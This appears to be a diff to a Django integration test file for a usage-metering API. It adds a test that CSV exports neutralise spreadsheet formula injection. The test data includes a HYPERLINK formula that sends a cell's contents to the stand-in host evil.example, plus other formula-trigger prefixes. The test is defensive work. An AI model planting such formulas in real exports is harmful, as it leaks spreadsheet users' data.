@@ -7,7 +7,7 @@ from __future__ import annotations
 import csv
 import io
 from collections.abc import Callable
-from datetime import timedelta
+from datetime import UTC, datetime, timedelta
 from decimal import Decimal
 from typing import Any
 
@@ -15,6 +15,7 @@ import pytest
 from django.contrib.auth.models import User
 from rest_framework.test import APIClient
 
+from federation.metering.models import UsageHour
 from federation.metering.services import usage_hours_refresh, usage_ingest
 from federation.tenancy import services as tenancy
 from federation.tenancy.models import ApiKey, Tenant
@@ -161,9 +162,13 @@ def test_a_monthly_statement_bills_each_model_to_the_last_digit(
     client_for: Callable[[User | None], APIClient],
 ) -> None:
     from federation.metering.models import UsageRecord
+    from tests.integration.inventory_factories import services_clock
 
     Tenant.objects.filter(slug="acme").update(monthly_budget_usd=Decimal("10.00"))
-    r = get(operator_client, "usage/statement", tenant="acme", month="2026-11")
+    operator = APIClient()
+    operator.force_authenticate(User.objects.get(username="oscar-operator"))  # a clock-free login
+    with services_clock(datetime(2026, 12, 8, 1, tzinfo=UTC)):  # past November's late records
+        r = get(operator, "usage/statement", tenant="acme", month="2026-11")
     assert r.status_code == 200, r.content
     body = r.json()
     charged = sum(r.price_usd for r in UsageRecord.objects.filter(tenant="acme"))
@@ -203,3 +208,36 @@ def test_a_statement_needs_a_month_and_for_operators_a_tenant(
     assert (
         get(operator_client, "usage/statement", month="2026-11", tenant="nobody").status_code == 404
     )
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+    "@SUM(1+1)",
+    "+1+1",
+    "-2+3",
+    "\tcmd",
+    "\r=1",
+]
+
+
+def test_a_csv_cell_that_could_start_a_formula_is_written_as_text(
+    operator_client: APIClient,
+) -> None:
+    """Names an edge reported (a tenant, a model, a pool) reach the CSV as text a spreadsheet
+    never evaluates: prefixed with ``'`` (OWASP); numbers stay numbers."""
+    sums = {"requests": 1, "cancelled": 0, "errors": 0, "prompt_tokens": 5, "cached_tokens": 0}
+    for i, name in enumerate(FORMULAS):
+        UsageHour.objects.create(
+            hour=HOUR, tenant=name[:63], model=name, region="us-east", pool=f"us-east/{name}",
+            completion_tokens=i, price_usd=Decimal("0.5"), cost_usd=Decimal("0.25"), **sums,
+        )  # fmt: skip
+    r = get(
+        operator_client, "usage", group_by="tenant,model,pool", bucket="hour", output="csv", **DAY
+    )
+    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
+    rows = list(csv.DictReader(io.StringIO(r.content.decode(), newline="")))
+    assert sorted(row["model"] for row in rows) == sorted("'" + name for name in FORMULAS)
+    for row in rows:
+        name = row["model"][1:]
+        assert (row["tenant"], row["pool"]) == ("'" + name, f"us-east/{name}")
+        assert row["requests"] == "1" and Decimal(row["price_usd"]) == Decimal("0.5")
